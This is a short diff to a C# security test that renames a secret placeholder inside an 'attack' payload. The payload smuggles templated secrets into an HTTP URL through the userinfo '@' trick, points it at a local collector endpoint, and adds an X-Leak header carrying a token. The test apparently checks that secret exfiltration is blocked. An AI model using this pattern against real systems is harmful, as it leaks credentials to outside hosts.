@@ -67,7 +67,7 @@ public sealed class HttpSecretRulesTests : ActivityTest
         var http = Handler("http", Settings());
         var attack = Json(new
         {
-            httpUrl = $"{{{{secrets.LEDGER_URL}}}}@127.0.0.1:{_outsider.BaseUrl.Port}/collect",
+            httpUrl = $"{{{{secrets.LEDGER_ORIGIN}}}}@127.0.0.1:{_outsider.BaseUrl.Port}/collect",
             httpHeaders = new Dictionary<string, string> { ["X-Leak"] = "{{secrets.LEDGER_TOKEN}}" },
         });
 
